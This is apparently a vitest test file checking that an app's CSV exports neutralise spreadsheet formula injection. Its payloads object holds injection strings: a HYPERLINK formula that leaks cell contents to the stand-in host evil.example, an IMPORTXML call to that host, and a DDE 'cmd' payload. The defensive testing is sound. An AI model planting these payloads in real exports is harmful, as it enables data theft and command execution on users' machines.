import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../../testing/test-app';
import { assessmentTestApp, createVendor, json, sendAssessment } from '../assessments/assessment-test-kit';
import { assessmentUnderReview } from '../decisions/decision-test-kit';

// Text people and browsers type goes into every CSV export; a cell a spreadsheet would run as a
// formula must arrive neutralised (a ' in front), whatever the table and column. The exports are read
// from the app's route table, so a new export is checked as well.
let t: TestApp;
let admin: string;

/**
 * Each formula start (=, +, -, @) in a field a person or browser fills in. Text is trimmed on the way
 * in, so a leading tab or carriage return cannot come through the API; exports.test.ts stores such
 * names directly and checks those.
 */
const payloads = {
  userHint: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  justification: '+SUM(1,2) because I need it for drafting',
  intendedUse: '-2+3 drafting replies',
  vendor: '@SUM(1,1) Vendor',
  respondent: "=cmd|' /C calc'!A0",
  system: '=1+1 assistant',
  purpose: '+2+2 purpose',
  owner: '-Finance team',
  finding: '=IMPORTXML("http://evil.example","//a") finding',
  requestedAction: '@cmd fix it',
};

beforeAll(async () => {
  t = await assessmentTestApp();
  admin = await t.signInAs('admin');
  const call = async (method: string, path: string, body: unknown, status: number, headers = {}) =>
    json(await t.request(path, { method, cookie: admin, json: body, headers }), status);

  await call('PATCH', '/api/settings', { pseudonymiseUsers: false }, 200);
  const { token } = await call('POST', '/api/enrollment-tokens', { label: 'Fleet' }, 201);
  const device = await json<{ credential: string }>(
    await t.request('/api/ext/enroll', {
      method: 'POST',
      json: {
        token,
        userHint: payloads.userHint,
        browser: 'chrome',
        platform: 'linux',
        extensionVersion: '1.0.0',
      },
    }),
    201,
  );
  await json(
    await t.request('/api/ext/requests', {
      method: 'POST',
      headers: { authorization: `Bearer ${device.credential}` },
      json: {
        clientRequestId: randomUUID(),
        serviceId: 'openai-chatgpt',
        justification: payloads.justification,
        intendedUse: payloads.intendedUse,
        dataCategories: ['internal'],
      },
    }),
    201,
  );
  await sendAssessment(t, await createVendor(t, payloads.vendor), { respondentName: payloads.respondent });
  await call(
    'POST',
    '/api/inventory',
    { name: payloads.system, purpose: payloads.purpose, owner: payloads.owner },
    201,
  );
  const reviewed = await assessmentUnderReview(t);
  await json(
    await t.request(`/api/assessments/${reviewed.id}/findings`, {
      method: 'POST',
      cookie: await t.signInAs('reviewer'),
      json: {
        questionId: 'prov.models',
        title: payloads.finding,
        severity: 'high',
        requestedAction: payloads.requestedAction,
      },
    }),
    201,
  );
});
afterAll(() => t?.close());

describe('CSV exports', () => {
  it('neutralise every cell that starts like a formula, in every export', async () => {
    const exports = [
      ...new Set(
        t.app.routes.filter((r) => r.method === 'GET' && r.path.endsWith('/export.csv')).map((r) => r.path),
      ),
    ];
    expect(exports.length).toBeGreaterThanOrEqual(8);
    const cells: string[] = [];
    for (const path of exports) {
      const res = await t.request(path, { cookie: admin });
      expect(res.status, path).toBe(200);
      const rows = parse(await res.text(), {
        bom: true,
        record_delimiter: ['\r\n', '\n', '\r'],
      }) as string[][];
      for (const cell of rows.flat()) {
        // A cell may start with - or + only as a number the database holds as one.
        if (/^[=+\-@\t\r]/.test(cell))
          expect(cell, `${path}: ${JSON.stringify(cell)}`).toMatch(/^-\d+(\.\d+)?$/);
        cells.push(cell);
      }
    }
    // Each payload reached some export, with its quote.
    for (const [field, text] of Object.entries(payloads)) {
      expect(
        cells.some((cell) => cell.includes(`'${text}`)),
        `${field}: ${JSON.stringify(text)} in no export`,
      ).toBe(true);
    }
  });
});
